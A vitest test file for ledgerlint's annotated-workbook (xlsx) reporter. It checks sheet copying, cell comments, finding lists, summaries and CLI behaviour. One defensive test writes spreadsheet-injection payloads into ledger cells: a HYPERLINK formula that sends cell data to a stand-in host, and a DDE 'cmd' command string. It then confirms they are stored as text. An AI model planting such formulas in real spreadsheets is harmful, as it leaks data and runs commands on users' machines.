/**
 * The annotated workbook (--format xlsx) over the demo ledgers and small hand-made ledgers: every produced file
 * is read back with exceljs (and its XML parts where exceljs does not expose them: internal links, formulas).
 */
import { createHash } from 'node:crypto';
import { copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCheck, type CheckResult } from '../../src/commands/check.js';
import type { Report, ReportFinding } from '../../src/findings/report.js';
import type { Lang } from '../../src/i18n/types.js';
import { FILE_REPORTERS } from '../../src/reporters/index.js';
import { anchorCell, householdColumns, worstSeverity } from '../../src/reporters/xlsx/annotations.js';
import { SEVERITY_ARGB } from '../../src/reporters/xlsx/cells.js';
import { FINDINGS_COLUMNS } from '../../src/reporters/xlsx/findings-sheet.js';
import { passRate, topRules } from '../../src/reporters/xlsx/summary-sheet.js';
import { xlsxReporter } from '../../src/reporters/xlsx/reporter.js';
import { cleanLedgerRows, runCli } from '../helpers/cli.js';
import { makeTempDir, readZipText, toCsv, writeText, writeXlsx, type TempDir } from '../helpers/files.js';
import { DEMO, withFindings } from './demo.js';

const GBK_DEMO = 'fixtures/demo/demo-county-gbk.csv';
const ZH_HEADERS = [
  '乡镇',
  '村',
  '户编号',
  '户主',
  '姓名',
  '工作表',
  '行',
  '列',
  '规则',
  '严重程度',
  '说明',
  '定位',
  '规则编号',
];

let tmp: TempDir;
beforeAll(() => {
  tmp = makeTempDir('ledgerlint-xlsx-');
});
afterAll(() => tmp.remove());

const sha256 = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

async function check(inputs: string[], lang: Lang = 'zh'): Promise<CheckResult> {
  return runCheck({ inputs, packs: ['national-exit', 'data-quality'], params: {}, all: false, lang });
}

async function annotate(result: CheckResult, input: string, out: string, lang: Lang = 'zh', report?: Report) {
  await xlsxReporter.write(
    report ?? result.report,
    { lang, color: false, ruleTitles: result.ruleTitles },
    { input, file: out },
  );
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(out);
  return workbook;
}

function sheet(workbook: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
  const ws = workbook.getWorksheet(name);
  if (!ws) throw new Error(`no sheet ${name}: ${workbook.worksheets.map((w) => w.name).join(', ')}`);
  return ws;
}

function argb(cell: ExcelJS.Cell): string | undefined {
  const fill = cell.fill as ExcelJS.FillPattern | undefined;
  return fill?.type === 'pattern' ? fill.fgColor?.argb : undefined;
}

function noteText(cell: ExcelJS.Cell): string | undefined {
  const note = cell.note as string | ExcelJS.Comment | undefined;
  if (note === undefined) return undefined;
  if (typeof note === 'string') return note;
  return (note.texts ?? []).map((t) => t.text).join('');
}

/** Every cell of a sheet with a note, as "C12". */
function notedCells(ws: ExcelJS.Worksheet): string[] {
  const cells: string[] = [];
  ws.eachRow({ includeEmpty: true }, (row) =>
    row.eachCell({ includeEmpty: true }, (cell) => {
      if (noteText(cell) !== undefined) cells.push(cell.address);
    }),
  );
  return cells.sort();
}

/** Internal links of the sheet `name` (position in the workbook), from its XML: cell → location. */
function internalLinks(file: string, workbook: ExcelJS.Workbook, name: string): Map<string, string> {
  const index = workbook.worksheets.findIndex((w) => w.name === name);
  const xml = readZipText(file).get(`xl/worksheets/sheet${index + 1}.xml`) ?? '';
  const links = new Map<string, string>();
  for (const m of xml.matchAll(/<hyperlink ref="([A-Z]+\d+)" location="([^"]*)"\/>/g))
    links.set(m[1] ?? '', (m[2] ?? '').replace(/&apos;/g, "'").replace(/&amp;/g, '&'));
  return links;
}

function cellValue(cell: ExcelJS.Cell): unknown {
  const v = cell.value;
  if (v && typeof v === 'object' && 'richText' in v) return v.richText.map((r) => r.text).join('');
  return v;
}

describe('xlsx reporter over the demo workbook', () => {
  let result: CheckResult;
  let workbook: ExcelJS.Workbook;
  let input: ExcelJS.Workbook;
  let out: string;
  let hashBefore: string;

  beforeAll(async () => {
    hashBefore = sha256(DEMO);
    result = await check([DEMO]);
    out = tmp.path('demo.xlsx');
    workbook = await annotate(result, DEMO, out);
    input = new ExcelJS.Workbook();
    await input.xlsx.readFile(DEMO);
  });

  it('is registered as a file reporter', () => {
    expect(FILE_REPORTERS.xlsx).toBe(xlsxReporter);
  });

  it('leaves the input as it was', () => {
    expect(sha256(DEMO)).toBe(hashBefore);
  });

  it('copies every sheet of the input, then adds 问题清单 and 汇总', () => {
    expect(workbook.worksheets.map((w) => w.name)).toEqual([
      ...input.worksheets.map((w) => w.name),
      '问题清单',
      '汇总',
    ]);
  });

  it('keeps every value and number format of the input', () => {
    for (const original of input.worksheets) {
      const copy = sheet(workbook, original.name);
      let compared = 0;
      original.eachRow({ includeEmpty: false }, (row) =>
        row.eachCell({ includeEmpty: false }, (cell) => {
          const copied = copy.getCell(cell.address);
          expect(copied.isMerged, cell.address).toBe(cell.isMerged);
          expect(cellValue(copied), cell.address).toEqual(cellValue(cell));
          expect(copied.numFmt, cell.address).toBe(cell.numFmt);
          compared++;
        }),
      );
      expect(compared).toBeGreaterThan(1000);
      const merges = (ws: ExcelJS.Worksheet) => [...(ws.model.merges ?? [])].sort();
      expect(merges(original).length).toBeGreaterThan(0);
      expect(merges(copy)).toEqual(merges(original));
      expect(copy.rowCount).toBe(original.rowCount);
    }
  });

  it('fills and comments exactly the cells with findings, by severity, listing their messages', () => {
    const findings = result.report.findings;
    const columns = householdColumns(result.report, DEMO);
    const byCell = new Map<string, ReportFinding[]>();
    for (const f of findings) {
      const at = anchorCell(f, columns);
      if (!at || f.sheet === null) continue;
      const key = `${f.sheet}!${at.column}${at.row}`;
      byCell.set(key, [...(byCell.get(key) ?? []), f]);
    }
    expect(byCell.size).toBeGreaterThanOrEqual(20);
    const copy = sheet(workbook, '花名册');
    expect(notedCells(copy).map((c) => `花名册!${c}`)).toEqual([...byCell.keys()].sort());
    for (const [key, cellFindings] of byCell) {
      const cell = copy.getCell(key.split('!')[1] ?? '');
      expect(argb(cell), key).toBe(SEVERITY_ARGB[worstSeverity(cellFindings)]);
      const note = noteText(cell) ?? '';
      expect(note.split('\n')).toHaveLength(cellFindings.length);
      for (const f of cellFindings) expect(note).toContain(`${f.message}（${f.ruleId}）`);
    }
    // A cell without findings keeps the input's fill.
    expect(argb(copy.getCell('A1'))).toBe(argb(sheet(input, '花名册').getCell('A1')));
  });

  it('writes the known checksum finding as a red cell with its Chinese comment', () => {
    const f = result.report.findings.find((x) => x.ruleId === 'id-number-checksum');
    expect(f).toBeDefined();
    const cell = sheet(workbook, '花名册').getCell(`${f?.column}${f?.row}`);
    expect(argb(cell)).toBe('FFFFC7CE');
    expect(noteText(cell)).toBe(`【错误】${f?.message}（id-number-checksum）`);
    expect(noteText(cell)).toMatch(/\d{4}\*+\d{3}[\dX]/); // the message keeps the report's masking
  });

  it('lists every finding in 问题清单 with a link to its cell, frozen header and autofilter', () => {
    const list = sheet(workbook, '问题清单');
    const findings = result.report.findings;
    expect(list.getRow(1).values).toEqual([undefined, ...ZH_HEADERS]);
    expect(list.rowCount).toBe(findings.length + 1);
    expect(list.autoFilter).toBe(`A1:${String.fromCharCode(64 + FINDINGS_COLUMNS.length)}1`);
    expect(list.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const links = internalLinks(out, workbook, '问题清单');
    const columns = householdColumns(result.report, DEMO);
    findings.forEach((f, i) => {
      const row = list.getRow(i + 2);
      const at = anchorCell(f, columns);
      const address = at ? `${at.column}${at.row}` : 'A1';
      expect(row.getCell(1).value ?? null).toBe(f.township);
      expect(row.getCell(2).value ?? null).toBe(f.village);
      expect(row.getCell(3).value ?? null).toBe(f.householdId);
      expect(row.getCell(4).value ?? null).toBe(f.headName);
      expect(row.getCell(5).value ?? null).toBe(f.name);
      expect(row.getCell(6).value).toBe('花名册');
      expect(row.getCell(7).value ?? null).toBe(f.row);
      expect(row.getCell(8).value ?? null).toBe(f.column);
      expect(row.getCell(9).value).toBe(result.ruleTitles.get(f.ruleId)?.zh);
      expect(row.getCell(10).value).toBe({ error: '错误', warning: '警告', info: '提示' }[f.severity]);
      expect(argb(row.getCell(10))).toBe(SEVERITY_ARGB[f.severity]);
      expect(row.getCell(11).value).toBe(f.message);
      expect(row.getCell(13).value).toBe(f.ruleId);
      expect(links.get(`L${i + 2}`)).toBe(`'花名册'!${address}`);
    });
    // 户主 and 姓名 are filled for person findings of the demo.
    const person = findings.find((f) => f.ruleId === 'id-number-checksum');
    expect(person?.name).toMatch(/^\p{Script=Han}{2,3}$/u);
    expect(person?.headName).toMatch(/^\p{Script=Han}{2,3}$/u);
  });

  it('summarises villages × standards, totals and top rules in 汇总 from the report', () => {
    const summary = result.report.summary;
    const ws = sheet(workbook, '汇总');
    const rows: unknown[][] = [];
    ws.eachRow({ includeEmpty: true }, (row) => rows.push((row.values as unknown[]).slice(1)));
    const headline = rows.findIndex((r) => r[0] === '人数');
    expect(rows[headline + 1]?.slice(0, 6)).toEqual([
      summary.persons,
      summary.households,
      summary.byArea.reduce((n, a) => n + a.failingHouseholds, 0),
      summary.errors,
      summary.warnings,
      summary.infos,
    ]);
    const standards = summary.standards;
    expect(standards.length).toBeGreaterThanOrEqual(5); // every national-exit rule, one column group each
    const areaHeader = rows.findIndex((r) => r[0] === '乡镇');
    standards.forEach((s, k) =>
      expect(rows[areaHeader]?.[5 + k * 3]).toBe(result.ruleTitles.get(s.ruleId)?.zh),
    );
    summary.byArea.forEach((area, i) => {
      const row = rows[areaHeader + 2 + i] ?? [];
      expect(row.slice(0, 5)).toEqual([
        area.township,
        area.village,
        area.persons,
        area.households,
        area.failingHouseholds,
      ]);
      standards.forEach((s, k) => {
        const count = area.standards[s.ruleId] ?? { checked: 0, failing: 0 };
        expect(row.slice(5 + k * 3, 8 + k * 3)).toEqual([
          count.checked,
          count.failing,
          passRate(count.checked, count.failing) ?? undefined,
        ]);
      });
    });
    const total = rows[areaHeader + 2 + summary.byArea.length] ?? [];
    expect(total[0]).toBe('合计');
    standards.forEach((s, k) =>
      expect(total.slice(5 + k * 3, 8 + k * 3)).toEqual([s.checked, s.failing, s.passRate ?? undefined]),
    );
    expect(total[2]).toBe(summary.persons);
    expect(ws.getCell(areaHeader + 3, 8).numFmt).toBe('0.0%');
    const top = rows.findIndex((r) => r[0] === '问题最多的规则');
    const expected = topRules(result.report);
    expect(expected.length).toBeGreaterThan(0);
    expected.forEach(([ruleId, entry], i) => {
      expect(rows[top + 2 + i]?.slice(1, 5)).toEqual([
        ruleId,
        { error: '错误', warning: '警告', info: '提示' }[entry.severity],
        entry.count,
        entry.households,
      ]);
    });
  });

  it('annotates a finding without a column at its row’s 户编号 cell', async () => {
    const base = result.report.findings.find((x) => x.ruleId === 'id-number-checksum') as ReportFinding;
    const household: ReportFinding = {
      ...base,
      ruleId: 'household-test',
      column: null,
      field: null,
      row: 40,
    };
    const report = withFindings(result.report, [household]);
    const file = tmp.path('household.xlsx');
    const wb = await annotate(result, DEMO, file, 'zh', report);
    const column = householdColumns(result.report, DEMO).get('花名册');
    expect(column).toBeDefined();
    expect(notedCells(sheet(wb, '花名册'))).toEqual([`${column}40`]);
    expect(internalLinks(file, wb, '问题清单').get('L2')).toBe(`'花名册'!${column}40`);
  });

  it('names its sheets and headers in English with --lang en', async () => {
    const en = await check([DEMO], 'en');
    const wb = await annotate(en, DEMO, tmp.path('demo-en.xlsx'), 'en');
    expect(wb.worksheets.map((w) => w.name).slice(-2)).toEqual(['Findings', 'Summary']);
    expect(sheet(wb, 'Findings').getRow(1).getCell(1).value).toBe('Township');
    const f = en.report.findings.find((x) => x.ruleId === 'id-number-checksum');
    expect(noteText(sheet(wb, '花名册').getCell(`${f?.column}${f?.row}`))).toBe(
      `[error] ${f?.message} (id-number-checksum)`,
    );
  });
});

describe('xlsx reporter over the GBK CSV demo', () => {
  it('builds the workbook from the CSV: every cell text, IDs with all their digits, cells annotated', async () => {
    const before = sha256(GBK_DEMO);
    const result = await check([GBK_DEMO]);
    const out = tmp.path('gbk.xlsx');
    const wb = await annotate(result, GBK_DEMO, out);
    expect(sha256(GBK_DEMO)).toBe(before);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['demo-county-gbk', '问题清单', '汇总']);
    const ws = sheet(wb, 'demo-county-gbk');
    const csv = parse(iconv.decode(readFileSync(GBK_DEMO), 'gb18030'), {
      relax_column_count: true,
    }) as string[][];
    expect(ws.rowCount).toBe(csv.length);
    let ids = 0;
    csv.forEach((fields, r) =>
      fields.forEach((text, c) => {
        const cell = ws.getCell(r + 1, c + 1);
        if (text === '') return;
        expect(cell.value, cell.address).toBe(text);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.numFmt).toBe('@');
        if (/^\d{17}[\dX]$/.test(text)) ids++;
      }),
    );
    expect(ids).toBeGreaterThan(100);
    const f = result.report.findings.find((x) => x.ruleId === 'id-number-checksum');
    const cell = ws.getCell(`${f?.column}${f?.row}`);
    expect(argb(cell)).toBe('FFFFC7CE');
    expect(noteText(cell)).toContain(f?.message);
    const links = internalLinks(out, wb, '问题清单');
    expect(links.size).toBe(result.report.findings.length);
    expect([...links.values()].every((l) => l.startsWith("'demo-county-gbk'!"))).toBe(true);
  });
});

describe('xlsx reporter: ledger text is never a formula', () => {
  it('writes values starting with = + - @ as text cells, in the copy and in the finding list', async () => {
    const rows = cleanLedgerRows();
    const hostile = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '=1+1'];
    // Village, name and 户编号 cells carry the payloads; a broken check digit makes findings on these rows.
    rows.slice(1).forEach((row, i) => {
      row[1] = hostile[i % hostile.length] ?? '';
      if (i === 0) row[4] = "=cmd|' /C calc'!A0";
    });
    const id = rows[1]?.[5] ?? '';
    if (rows[1]) rows[1][5] = `${id.slice(0, 17)}${id.endsWith('0') ? '1' : '0'}`;
    const file = writeText(tmp.path('hostile.csv'), toCsv(rows), 'utf8');
    const result = await check([file]);
    expect(result.report.findings.some((f) => f.village?.startsWith('='))).toBe(true);
    const out = tmp.path('hostile.xlsx');
    const wb = await annotate(result, file, out);
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) =>
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula),
        ),
      );
    }
    const copy = sheet(wb, 'hostile');
    expect(copy.getCell('B2').value).toBe(hostile[0]);
    expect(copy.getCell('E2').value).toBe("=cmd|' /C calc'!A0");
    const list = sheet(wb, '问题清单');
    const first = list.getRow(2);
    expect(first.getCell(2).value).toBe(hostile[0]);
    expect(first.getCell(2).numFmt).toBe('@');
    expect(first.getCell(5).value).toBe("=cmd|' /C calc'!A0");
    const summary = sheet(wb, '汇总');
    let villages = 0;
    summary.eachRow((row) => {
      if (typeof row.getCell(2).value === 'string' && hostile.includes(row.getCell(2).value as string)) {
        villages++;
        expect(row.getCell(2).numFmt).toBe('@');
      }
    });
    expect(villages).toBeGreaterThan(0);
    // No formula element in any part of the package.
    for (const [name, xml] of readZipText(out))
      if (name.endsWith('.xml')) expect(xml, name).not.toMatch(/<f[ >]/);
  });
});

describe('xlsx reporter: workbook fidelity', () => {
  it('keeps styles, hidden and skipped sheets, replaces formulas by their values and renames clashing sheets', async () => {
    const file = await writeXlsx(tmp.path('styled.xlsx'), (wb) => {
      const notes = wb.addWorksheet('汇总');
      notes.getCell('A1').value = '说明：本表为汇总';
      const ws = wb.addWorksheet('花名册');
      ws.columns = cleanLedgerRows()[0]?.map((_, i) => ({ width: i === 5 ? 22 : 10 })) ?? [];
      for (const row of cleanLedgerRows()) ws.addRow(row);
      ws.getRow(1).font = { bold: true, name: '宋体' };
      ws.views = [{ state: 'frozen', xSplit: 0, ySplit: 1 }];
      ws.getCell('AG2').value = { formula: '1+1', result: 2 };
      ws.getCell('AG3').value = { formula: 'AG2*0', result: 0 };
      ws.getCell('AH2').value = new Date(Date.UTC(2020, 11, 31));
      ws.getCell('AH2').numFmt = 'yyyy-mm-dd';
      const hidden = wb.addWorksheet('码表', { state: 'hidden' });
      hidden.getCell('A1').value = '户主';
    });
    const before = sha256(file);
    const result = await check([file]);
    const wb = await annotate(result, file, tmp.path('styled-out.xlsx'));
    expect(sha256(file)).toBe(before);
    expect(wb.worksheets.map((w) => [w.name, w.state])).toEqual([
      ['汇总', 'visible'],
      ['花名册', 'visible'],
      ['码表', 'hidden'],
      ['问题清单', 'visible'],
      ['汇总(2)', 'visible'],
    ]);
    expect(sheet(wb, '汇总').getCell('A1').value).toBe('说明：本表为汇总');
    const ws = sheet(wb, '花名册');
    expect(ws.getCell('A1').font).toMatchObject({ bold: true, name: '宋体' });
    expect(ws.getColumn(6).width).toBe(22);
    expect(ws.getColumn(7).width).toBe(10);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getCell('AG2').value).toBe(2);
    expect(ws.getCell('AG3').value).toBe(0);
    expect(ws.getCell('AH2').value).toEqual(new Date(Date.UTC(2020, 11, 31)));
    expect(ws.getCell('AH2').numFmt).toBe('yyyy-mm-dd');
    expect(ws.getCell('F2').value).toBe(cleanLedgerRows()[1]?.[5]);
  });
});

describe('ledgerlint check --format xlsx (CLI)', () => {
  it('writes the workbook named with --format xlsx=<file>; the input is unchanged', async () => {
    const before = sha256(DEMO);
    const out = tmp.path('cli/annotated.xlsx');
    const run = runCli(['check', DEMO, '--format', `xlsx=${out}`]);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(1);
    expect(run.stdout).toBe('');
    expect(sha256(DEMO)).toBe(before);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['花名册', '问题清单', '汇总']);
    expect(readdirSync(path.dirname(out))).toEqual(['annotated.xlsx']); // no temp file left
  });

  it('writes one workbook per input into --output-dir, next to the other formats', async () => {
    const dir = tmp.path('cli-dir');
    const run = runCli([
      'check',
      DEMO,
      GBK_DEMO,
      '--format',
      'xlsx',
      '--format',
      'json',
      '--output-dir',
      dir,
    ]);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(1);
    expect(readdirSync(dir).sort()).toEqual([
      'demo-county-gbk.ledgerlint.xlsx',
      'demo-county.ledgerlint.xlsx',
      'ledgerlint-report.json',
    ]);
    const report = JSON.parse(readFileSync(path.join(dir, 'ledgerlint-report.json'), 'utf8')) as Report;
    for (const [name, input] of [
      ['demo-county.ledgerlint.xlsx', DEMO],
      ['demo-county-gbk.ledgerlint.xlsx', GBK_DEMO],
    ] as const) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(path.join(dir, name));
      expect(sheet(wb, '问题清单').rowCount).toBe(report.findings.filter((f) => f.file === input).length + 1);
    }
  });

  it('names same-named inputs apart and accepts a directory as the xlsx target', () => {
    mkdirSync(tmp.path('a'));
    mkdirSync(tmp.path('b'));
    copyFileSync(GBK_DEMO, tmp.path('a/台账.csv'));
    copyFileSync(GBK_DEMO, tmp.path('b/台账.csv'));
    const dir = tmp.path('out-same') + path.sep;
    const run = runCli(['check', tmp.path('a/台账.csv'), tmp.path('b/台账.csv'), '--format', `xlsx=${dir}`]);
    expect(run.stderr).toBe('');
    expect(readdirSync(dir).sort()).toEqual(['台账-2.ledgerlint.xlsx', '台账.ledgerlint.xlsx']);
  });

  it('refuses one file for several inputs, no file at all, and an input as the target (exit 2)', () => {
    const many = runCli(['check', DEMO, GBK_DEMO, '--format', `xlsx=${tmp.path('one.xlsx')}`]);
    expect(many.code).toBe(2);
    expect(many.stderr).toContain('有 2 个输入文件');
    expect(many.stderr).not.toMatch(/\n\s+at /);
    expect(existsSync(tmp.path('one.xlsx'))).toBe(false);

    const none = runCli(['check', DEMO, '--format', 'xlsx', '--lang', 'en']);
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('The xlsx format writes a file');

    const copy = tmp.path('self.xlsx');
    copyFileSync(DEMO, copy);
    const before = sha256(copy);
    const self = runCli(['check', copy, '--format', `xlsx=${copy}`]);
    expect(self.code).toBe(2);
    expect(self.stderr).toContain('输入文件不会被改写');
    expect(sha256(copy)).toBe(before);
    const viaOutput = runCli(['check', copy, '--format', 'xlsx', '--output', copy]);
    expect(viaOutput.code).toBe(2);
    expect(sha256(copy)).toBe(before);
  });
});
